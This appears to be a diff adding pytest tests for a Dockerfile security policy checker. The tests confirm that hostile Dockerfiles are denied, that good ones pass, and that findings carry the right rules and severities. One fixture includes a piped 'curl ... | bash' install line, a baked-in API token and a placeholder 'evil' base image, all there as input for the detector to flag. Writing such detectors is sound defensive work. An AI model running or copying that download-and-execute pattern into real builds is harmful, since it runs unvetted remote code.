@@ -1,0 +1,123 @@
+"""The policy as a whole: hostile Dockerfiles are denied by the rule that is meant, good ones of every ecosystem pass."""
+
+from __future__ import annotations
+
+import time
+
+import pytest
+
+from bot import findings
+from bot.types import File, Files, Finding, Severity
+from tests.bot.findings.dockerfiles import GOOD, GOOD_ONES, HOSTILE
+from tests.bot.findings.given import CATALOGUE, FILES
+
+
+def check(text: str, path: str = "Dockerfile") -> tuple[Finding, ...]:
+    return findings.check(Files(files=(File(path=path, text=text),)), CATALOGUE, FILES.__contains__)
+
+
+@pytest.mark.parametrize("name", HOSTILE)
+def test_a_hostile_dockerfile_is_denied(name: str) -> None:
+    rule, text = HOSTILE[name]
+
+    found = check(text)
+
+    assert rule in {finding.rule for finding in found if finding.severity is Severity.ERROR}
+
+
+@pytest.mark.parametrize("name", GOOD_ONES)
+def test_a_good_dockerfile_passes(name: str) -> None:
+    assert check(GOOD_ONES[name]) == ()
+
+
+@pytest.mark.parametrize("name", GOOD_ONES)
+def test_a_good_dockerfile_of_a_person_is_free_of_errors(name: str) -> None:
+    found = findings.review(GOOD_ONES[name], "Dockerfile", CATALOGUE)
+
+    assert [finding for finding in found if finding.severity is Severity.ERROR] == []
+
+
+def test_every_rule_denies_some_hostile_file() -> None:
+    denied = {rule for rule, _ in HOSTILE.values()}
+
+    lazy = {rule.NAME for rule in findings.RULES} - denied
+
+    assert lazy == {"anonymous-volume"}  # untidy, not hostile
+
+
+def test_the_same_holds_in_the_folder_of_a_service() -> None:
+    assert check(GOOD, "services/web/Dockerfile") == ()
+    assert {one.path for one in check("FROM evil\n", "services/web/Dockerfile")} == {"services/web/Dockerfile"}
+
+
+def test_files_besides_a_dockerfile_are_judged_by_their_path() -> None:
+    beside = (File(path=".dockerignore", text="FROM evil"), File(path=".github/workflows/other.yml", text=""))
+
+    found = findings.check(Files(files=beside), CATALOGUE, FILES.__contains__)
+
+    assert [(one.rule, one.path) for one in found] == [("unexpected-path", ".github/workflows/other.yml")]
+
+
+def test_scripts_are_looked_for_where_the_files_come_from() -> None:
+    base = "FROM python:3.14-slim-trixie\nWORKDIR /app\n{}\nRUN SECRET_KEY=build python manage.py check\nUSER 1\n"
+    known = {"web/manage.py"}.__contains__
+
+    def denied(copy: str, path: str = "Dockerfile") -> list[str]:
+        files = Files(files=(File(path=path, text=base.format(copy)),))
+        return [finding.rule for finding in findings.check(files, CATALOGUE, known)]
+
+    assert denied("COPY web/ ./") == []
+    assert denied("COPY web/manage.py ./") == []
+    assert denied("COPY . ./", "web/Dockerfile") == []
+    assert denied("COPY . ./") == ["unknown-command"]
+    assert denied("COPY --from=busybox:1.37.0-musl /bin/busybox /busybox") == ["unknown-command"]
+
+
+def test_one_file_is_checked_in_five_milliseconds() -> None:
+    check(GOOD)
+    spent = []
+    for _ in range(20):
+        started = time.perf_counter()
+        check(GOOD_ONES["django"])
+        spent.append(time.perf_counter() - started)
+
+    assert min(spent) < 0.005
+
+
+def test_what_a_person_wrote_is_judged_by_what_is_dangerous() -> None:
+    text = (
+        "FROM node\nENV API_TOKEN=abc\nWORKDIR /srv\nRUN set -eux; npm i\nRUN cd /srv; npm t\n"
+        "RUN curl https://x.example/i.sh | bash\nADD https://x.example/y /z\nLABEL a=b\nCMD npm start\n"
+    )
+
+    found = findings.review(text, "Dockerfile", CATALOGUE)
+
+    assert [(one.severity.value, one.rule, one.line) for one in found] == [
+        ("error", "root-user", 1),
+        ("error", "latest-tag", 1),
+        ("error", "secret-in-image", 2),
+        ("error", "piped-script", 6),
+        ("error", "add-instruction", 7),
+        ("warning", "shell-form-command", 9),
+        ("info", "foreign-image", 1),
+        ("info", "unknown-command", 4),
+    ]
+    assert all(one.message and one.instead for one in found)
+
+
+def test_what_does_not_parse_is_an_error_with_its_line() -> None:
+    found = findings.review("FROM python:3.14-slim-trixie\nENV A\n", "Dockerfile", CATALOGUE)
+
+    assert [(one.rule, one.severity) for one in found] == [("unparsable-dockerfile", Severity.ERROR)]
+
+
+def test_the_summary_is_one_sentence() -> None:
+    errors = check(HOSTILE["root"][1])
+
+    assert (
+        findings.summary(errors[:1])
+        == "The policy refuses Dockerfile:13: USER root runs the program as root [root-user]."
+    )
+    assert findings.summary(errors[:1] * 2).endswith("[root-user] (1 more finding).")
+    assert findings.summary(errors[:1] * 3).endswith("[root-user] (2 more findings).")
+    assert findings.summary(()) == "The policy has nothing against it."
